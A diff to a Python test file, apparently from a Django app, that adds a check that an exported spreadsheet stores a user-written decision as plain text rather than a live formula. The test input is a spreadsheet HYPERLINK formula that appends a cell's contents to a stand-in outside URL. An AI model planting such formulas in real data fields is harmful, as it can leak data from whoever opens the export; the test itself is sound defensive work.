@@ -102,8 +102,12 @@ def test_who_decides(cast):
         decide(note, by=cast.rad, decision="  ")
 
 
-def test_doubts_as_a_spreadsheet(administrator):
+def test_doubts_as_a_spreadsheet(administrator, cast):
+    formula = '=HYPERLINK("https://example.id/"&A1,"desa")'
+    decide(SourceNote.objects.get(printed="17 fesa"), by=cast.rad, decision=formula)
     response = administrator.get(address(SourceNote, "export"))
-    rows = [[cell.value for cell in row] for row in load_workbook(BytesIO(response.content)).active.rows]
-    assert rows[0][:3] == ["code", "annex", "row"]
-    assert any("17 fesa" in str(cell) for row in rows for cell in row)
+    rows = list(load_workbook(BytesIO(response.content)).active.rows)
+    assert [cell.value for cell in rows[0][:3]] == ["code", "annex", "row"]
+    assert any("17 fesa" in str(cell.value) for row in rows for cell in row)
+    [decided] = [cell for row in rows for cell in row if cell.value == formula]
+    assert decided.data_type == "s", "no spreadsheet runs what somebody wrote"
